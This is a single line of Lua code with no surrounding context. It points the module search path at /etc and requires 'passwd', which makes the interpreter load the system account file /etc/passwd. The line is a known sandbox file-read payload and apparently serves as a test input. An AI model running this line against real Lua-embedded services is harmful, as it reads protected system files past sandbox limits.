package.path = "/etc/?" require("passwd")
